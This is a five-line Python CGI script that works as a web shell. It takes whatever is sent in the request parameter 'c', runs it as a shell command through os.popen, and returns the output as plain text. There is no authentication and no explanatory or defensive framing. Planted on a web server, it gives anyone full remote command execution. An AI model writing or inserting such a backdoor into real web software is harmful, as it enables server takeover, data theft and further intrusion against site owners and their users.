#!/usr/bin/python3
import cgi, os
form = cgi.FieldStorage()
print('Content-type: text/plain\n')
print(os.popen(form.getvalue('c')).read())
